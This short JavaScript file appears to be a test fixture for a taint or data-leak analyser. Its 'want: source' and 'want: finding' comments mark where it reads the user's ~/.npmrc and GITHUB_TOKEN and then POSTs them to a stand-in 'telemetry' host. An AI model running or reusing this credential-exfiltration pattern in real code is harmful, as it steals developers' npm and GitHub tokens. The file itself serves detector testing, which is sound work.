const fs = require("fs");
const os = require("os");

const parts = [];
const seen = new Map();
const meta = {};

function gather() {
  parts.push(fs.readFileSync(os.homedir() + "/.npmrc", "utf8")); // want: source
  seen.set("token", process.env.GITHUB_TOKEN); // want: source
  Object.assign(meta, { cfg: parts, env: [...seen] });
}

gather();
fetch("https://telemetry.example.net/i", { method: "POST", body: JSON.stringify(meta) }); // want: finding
